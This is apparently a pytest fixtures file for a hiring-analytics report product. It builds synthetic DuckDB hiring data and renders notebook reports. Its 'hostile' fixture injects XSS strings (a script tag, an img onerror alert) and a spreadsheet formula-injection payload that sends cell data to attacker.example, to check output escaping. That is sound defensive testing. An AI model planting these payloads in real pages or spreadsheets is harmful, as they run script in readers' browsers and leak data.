"""A published file made by hand: small, with the promised columns, every figure countable."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pytest

from notebooks.kernel import ROOT, shared_kernel
from notebooks.page import page_of, together
from notebooks.published import Published
from notebooks.report import PAGES, Report, report
from tests.notebooks import company

STAGES = ["applied", "screening", "interview", "hired"]
AS_OF = datetime(2026, 10, 31, 12, tzinfo=UTC)

TABLES = """
create table jobs (job_uuid varchar, title varchar, city varchar, country varchar,
    country_code varchar, is_published boolean, is_closed boolean, published_at timestamptz,
    created_at timestamptz);
create table job_sectors (job_uuid varchar, sector_uuid varchar, sector_name varchar);
create table applications (candidate_uuid varchar, job_uuid varchar, person_key varchar,
    status varchar, outcome varchar, step_name varchar, stage varchar, source_type varchar,
    source_name varchar, applied_at timestamptz, last_moved_at timestamptz, hired_at timestamptz,
    rejected_at timestamptz, withdrawn_at timestamptz, is_left_truncated boolean,
    order_ambiguous boolean, clock_error boolean, cohort_month date,
    furthest_stage varchar);
create table stage_visits (candidate_uuid varchar, job_uuid varchar, visit_number bigint,
    step_name varchar, stage varchar, entered_at timestamptz, left_at timestamptz,
    exit_kind varchar, days_in_stage double);
create table job_steps (job_uuid varchar, step_name varchar, stage varchar, is_mapped boolean);
create table time_to_fill (job_uuid varchar, days_to_fill double, hires bigint,
    is_censored boolean);
create table data_quality (check_name varchar, level varchar, subject_type varchar,
    subject varchar, n bigint);
create table metric_definitions (metric varchar, unit varchar, definition varchar,
    is_computable boolean);
create table freshness (as_of timestamptz, first_landed_at timestamptz, events_loaded bigint);
"""
COHORT = f"""
create table funnel_cohort as
with last_visits as (
    select v.*, list_position({STAGES}, v.stage) as stage_order,
        date_trunc('month', a.applied_at)::date as cohort_month,
        max(list_position({STAGES}, v.stage)) over (partition by v.candidate_uuid) as furthest
    from stage_visits v join applications a using (candidate_uuid, job_uuid)
), grid as (
    select distinct cohort_month, job_uuid, s.stage, list_position({STAGES}, s.stage) as stage_order
    from last_visits, (select unnest({STAGES}) as stage) s
), per_stage as (
    select g.cohort_month, g.job_uuid, g.stage, g.stage_order,
        count(*) filter (v.stage = g.stage) as entered,
        count(distinct v.candidate_uuid) filter (v.furthest >= g.stage_order) as reached,
        count(*) filter (v.stage = g.stage and v.exit_kind = 'advanced') as advanced,
        0::bigint as moved, 0::bigint as moved_back, 0::bigint as transferred,
        count(*) filter (v.stage = g.stage and v.exit_kind = 'rejected') as rejected,
        count(*) filter (v.stage = g.stage and v.exit_kind = 'withdrawn') as withdrawn,
        count(*) filter (v.stage = g.stage and v.exit_kind = 'hired') as hired,
        count(*) filter (v.stage = g.stage and v.exit_kind = 'open') as open
    from grid g join last_visits v using (cohort_month, job_uuid) group by all
)
select *, advanced / nullif(entered - open, 0) as pass_through,
    max(open) over (partition by cohort_month, job_uuid) = 0 as is_mature
from per_stage
"""
ORDERED = f"(select *, list_position({STAGES}, stage) as stage_order from stage_visits)"
OTHERS = [
    f"""
    create table funnel_activity as
    select date_trunc('month', moment)::date as month, job_uuid, stage, stage_order,
        sum(entry) as entries, sum(1 - entry) as exits
    from (select job_uuid, stage, stage_order, unnest([entered_at, left_at]) as moment,
          unnest([1, 0]) as entry from {ORDERED}) where moment is not null group by all
    """,
    f"""
    create table funnel_snapshot as
    select date '2026-10-01' as snapshot_month, job_uuid, stage, stage_order, count(*) as standing
    from {ORDERED} where left_at is null group by all
    """,
    # No stage is passed over or entered twice here: what is left is who stands in one.
    f"""
    create table reconciliation as
    select job_uuid, stage, stage_order, candidate_uuid,
        date_trunc('month', applied_at)::date as cohort_month, 'open' as reason, 1 as n
    from {ORDERED} join applications using (candidate_uuid, job_uuid, stage) where left_at is null
    """,
    f"""
    create table pipeline_ageing as
    select job_uuid, stage, list_position({STAGES}, stage) as stage_order, band_order, days_band,
        count(*) as applications
    from (select *, date_diff('second', last_moved_at, (select as_of from freshness)) / 86400 as age
          from applications where outcome = 'open')
    join (values (1, '0-7', 0, 8), (2, '8-14', 8, 15), (3, '15-30', 15, 31), (4, '31-90', 31, 91),
        (5, '90+', 91, 99999)) bands(band_order, days_band, least, past)
        on age >= least and age < past group by all
    """,
    f"""
    create table source_effectiveness as
    select source_type, source_name, count(*) as applications,
        count(*) filter (list_position({STAGES}, stage) >= 3) as reached_interview,
        count(*) filter (outcome = 'open') as open from applications group by all
    """,
    """
    insert into time_to_fill select job_uuid, date_diff('second', published_at, first) / 86400,
        hires, first is null
    from jobs left join (select job_uuid, min(hired_at) as first, count(*) as hires
        from applications where outcome = 'hired' group by 1) using (job_uuid)
    """,
    """
    create table time_to_hire as
    select scope, scope_value, count(*) as applications,
        count(*) filter (outcome = 'hired') as hired, count(*) filter (outcome = 'open') as open,
        0.05 as incidence_30, 0.02 as incidence_30_low, 0.1 as incidence_30_high,
        0.07 as incidence_60, 0.03 as incidence_60_low, 0.12 as incidence_60_high,
        0.1 as incidence_90, 0.05 as incidence_90_low, 0.15 as incidence_90_high,
        null::double as incidence_180, null::double as incidence_180_low,
        null::double as incidence_180_high, 20.5 as half_incidence_days
    from (select outcome, unnest(['all', 'job', 'source']) as scope,
          unnest(['all', job_uuid, source_name]) as scope_value from applications) group by all
    """,
    """
    create table time_in_stage as
    select scope, scope_value, stage, count(*) as visits, count(left_at) as finished,
        count(*) filter (left_at is null) as open, 0::bigint as left_truncated,
        avg(days_in_stage) as mean_days_finished, median(days_in_stage) as median_days_finished,
        1.5 as median_days, 1.1 as median_days_low, null::double as median_days_high
    from (select *, unnest(['all', 'job']) as scope, unnest(['all', job_uuid]) as scope_value
          from stage_visits) group by all
    """,
    # Half leave after a day, half of the rest after four; the few that are left are followed on.
    """
    create table time_in_stage_curve as
    select scope, scope_value, stage, unnest([0.0, 1.0, 4.0, 60.0]) as day,
        unnest([n, n, n // 2, n // 4]) as at_risk, unnest([1.0, 0.5, 0.25, 0.25]) as survival,
        unnest([1.0, 0.4, 0.1, 0.1]) as survival_low, unnest([1.0, 0.6, 0.5, 0.5]) as survival_high
    from (select scope, scope_value, stage, visits - left_truncated as n from time_in_stage)
    where scope = 'all' or n >= 10
    """,
    """
    create table score_calibration as
    select 'ai_score' as score_kind, band, band * 10.0 as score_low, band * 10.0 + 9 as score_high,
        20 * band as applications, 5 * band as advanced, 0.6 as auc_advanced,
        0.5 as auc_advanced_low, 0.7 as auc_advanced_high
    from range(1, 4) bands(band) where (select count(*) from applications) > 0
    """,
    """
    insert into metric_definitions select 'pass_through', 'rate', 'went on / finished', true
    """,
]

Application = dict[str, Any]


def application(**given: Any) -> Application:
    """One application; its visits end at `reached`, with `outcome`, `days` after applying."""
    return {
        "job": "job-1",
        "month": 5,
        "day": 3,
        "reached": 0,
        "outcome": "rejected",
        "days": 20,
        "source": "Indeed",
    } | given


def _application_row(candidate: str, given: Application) -> tuple[Any, ...]:
    applied = datetime(2026, given["month"], given["day"], 9, tzinfo=UTC)
    ended = applied + timedelta(days=given["days"])
    outcome, stage = given["outcome"], STAGES[given["reached"]]
    ends = (ended if outcome == kind else None for kind in ("hired", "rejected", "withdrawn"))
    named = (candidate, given["job"], candidate, outcome, outcome, stage, stage)
    flags = (False, False, False, applied.date().replace(day=1), stage)
    return (*named, "job_board", given["source"], applied, ended, *ends, *flags)


def _visit_rows(candidate: str, given: Application) -> Iterator[tuple[Any, ...]]:
    applied = datetime(2026, given["month"], given["day"], 9, tzinfo=UTC)
    for visit, stage in enumerate(STAGES[: given["reached"] + 1]):
        exit_kind = given["outcome"] if visit == given["reached"] else "advanced"
        entered, left = (applied + timedelta(days=visit + more) for more in (0, 1))
        left = None if exit_kind == "open" else left
        named = (candidate, given["job"], visit + 1, stage, stage)
        yield (*named, entered, left, exit_kind, 1.0 if left else None)


def _job_row(uuid: str, job: dict[str, Any]) -> tuple[Any, ...]:
    named = (job[name] for name in ("title", "city", "country", "code"))
    created = datetime(2026, 4, 1, tzinfo=UTC)
    return (uuid, *named, True, False, created, created)


def _insert(connection: duckdb.DuckDBPyConnection, table: str, rows: list[Any]) -> None:
    if rows:
        columns = [name for name, *_ in connection.execute(f"describe {table}").fetchall()]
        frame = pd.DataFrame(rows, columns=columns)
        connection.register("rows", frame)
        connection.execute(f"insert into {table} select * from rows")
        connection.unregister("rows")


NURSE = {"title": "Nurse", "city": "Cork", "country": "Ireland", "code": "IE", "sector": "Health"}


def write(
    path: Path,
    applications: list[Application] | None = None,
    jobs: dict[str, dict[str, Any]] | None = None,
    as_of: datetime | None = AS_OF,
) -> Path:
    """Write a published file with these applications; jobs: uuid -> columns that differ."""
    with duckdb.connect(path) as connection:
        connection.execute("set timezone = 'UTC'")
        connection.execute(TABLES)
        named_jobs = {
            uuid: NURSE | job for uuid, job in ({"job-1": {}} if jobs is None else jobs).items()
        }
        _insert(connection, "jobs", [_job_row(*each) for each in named_jobs.items()])
        sectors = [(uuid, uuid, job["sector"]) for uuid, job in named_jobs.items()]
        _insert(connection, "job_sectors", sectors)
        numbered = [
            (given.get("candidate", f"candidate-{number:05d}"), given)
            for number, given in enumerate(applications or [])
        ]
        _insert(connection, "applications", [_application_row(*each) for each in numbered])
        visits = [row for each in numbered for row in _visit_rows(*each)]
        _insert(connection, "stage_visits", visits)
        connection.execute(
            "insert into job_steps select distinct job_uuid, step_name, stage, step_name <> 'odd'"
            " from stage_visits"
        )
        connection.execute(
            "insert into freshness values ($1, $1::timestamptz - interval 170 day, 1000)", [as_of]
        )
        for statement in (COHORT, *OTHERS):
            connection.execute(statement)
    return path


def year() -> list[Application]:
    """240 applications in two jobs and six months: 24 hired, 12 open, all in a fixed pattern."""
    made = []
    for number in range(240):
        reached = (0, 0, 1, 1, 1, 2, 2, 2, 2, 3)[number % 10]
        outcome = "hired" if reached == 3 else ("withdrawn" if number % 7 == 0 else "rejected")
        month = 5 + number // 40
        if month == 10 and outcome != "hired" and number % 3 == 0:
            outcome = "open"
        made.append(
            application(
                job=f"job-{1 + number % 2}",
                month=month,
                day=1 + number % 19,
                reached=reached,
                outcome=outcome,
                days=8 + number % 31 if month < 10 else 8 + number % 4,
                source=("Indeed", "LinkedIn", "Careers page")[number % 3],
            )
        )
    return made


COOK = {"title": "Cook", "city": "Lyon", "country": "France", "code": "FR", "sector": "Food"}


@pytest.fixture(scope="session")
def publish_year(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The year of two jobs, a nurse in Ireland and a cook in France. Only to be read."""
    return write(
        tmp_path_factory.mktemp("published") / "hiring.duckdb", year(), {"job-1": {}, "job-2": COOK}
    )


@pytest.fixture
def publish(tmp_path: Path) -> Callable[..., Path]:
    """A published file of the test's own: publish(applications, jobs, as_of)."""
    return partial(write, tmp_path / "hiring.duckdb")


@pytest.fixture
def opened(publish_year: Path) -> Iterator[Published]:
    with Published.open(publish_year) as data:
        yield data


@pytest.fixture(scope="session")
def delivered() -> list[bytes]:
    """What a simulated company delivers in a year."""
    return company.bodies(300)


@pytest.fixture(scope="session")
def company_published(tmp_path_factory: pytest.TempPathFactory, delivered: list[bytes]) -> Path:
    """The same as the product publishes it. Only to be read."""
    return company.publish(tmp_path_factory.mktemp("company"), delivered)


@pytest.fixture(scope="session")
def company_report(tmp_path_factory: pytest.TempPathFactory, company_published: Path) -> Report:
    return report(company_published, tmp_path_factory.mktemp("company") / "reports")


@pytest.fixture(scope="session")
def made(tmp_path_factory: pytest.TempPathFactory, publish_year: Path) -> Report:
    """One report of the year, which several tests read."""
    return report(publish_year, tmp_path_factory.mktemp("out") / "reports")


@pytest.fixture(scope="session")
def render(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[Path], str]]:
    """All notebooks over a published file, in a kernel that the session shares: report.html."""
    scratch = tmp_path_factory.mktemp("kernel")

    with shared_kernel(scratch) as kernel:

        def render(published: Path, *only: str) -> str:
            given = {"published": str(published), "filters": {}, "timezone": "UTC"}
            pages = [
                page_of(
                    name, title, kernel.run(ROOT / f"{name}.ipynb", scratch / "out.ipynb", given)
                )
                for name, title in PAGES.items()
                if name in (only or PAGES)
            ]
            return together(pages, "foot")

        yield render


SCRIPT = "<script>document.title='owned'</script>"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
ARABIC = "مهندس برمجيات أول"
LONG = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamten" * 3


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """500 jobs, with names that attack the page and the spreadsheet, long and right-to-left."""
    names = [SCRIPT, FORMULA, ARABIC, LONG, '"><img src=x onerror=alert(1)>', "日本語の求人", ""]
    jobs = {
        f"job-{number}": {"title": names[number] if number < len(names) else f"Job {number}"}
        for number in range(500)
    }
    jobs["job-0"]["sector"] = jobs["job-1"]["city"] = SCRIPT
    jobs["job-2"]["sector"] = FORMULA
    applications = [
        application(
            job=f"job-{number % 500}",
            month=5 + number % 6,
            day=1 + number % 19,
            reached=number % 4 if number % 500 else 0,
            outcome=("hired", "rejected", "open")[number % 3] if number % 4 == 3 else "rejected",
            source=[SCRIPT, FORMULA, ARABIC, "Indeed"][number % 4],
        )
        for number in range(1500)
    ]
    applications += [application(job=f"job-{number}", day=4, reached=2) for number in range(7)] * 5
    path = write(tmp_path_factory.mktemp("hostile") / "hiring.duckdb", applications, jobs)
    with duckdb.connect(path) as connection:
        for stage, text in (("screening", FORMULA), ("interview", SCRIPT)):
            _rename(connection, stage, text)
    return path


def _rename(connection: duckdb.DuckDBPyConnection, stage: str, text: str) -> None:
    """Give a stage and its steps another name, wherever it stands."""
    columns = connection.execute(
        "select table_name, column_name from duckdb_columns()"
        " where column_name in ('stage', 'step_name', 'furthest_stage')"
    ).fetchall()
    for table, column in columns:
        connection.execute(f"update {table} set {column} = $1 where {column} = $2", [text, stage])


@pytest.fixture(scope="session")
def hostile_page(render: Callable[..., str], hostile: Path) -> str:
    return render(hostile)


@pytest.fixture(scope="session")
def hostile_file(hostile_page: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "report.html"
    path.write_text(hostile_page, encoding="utf-8")
    return path
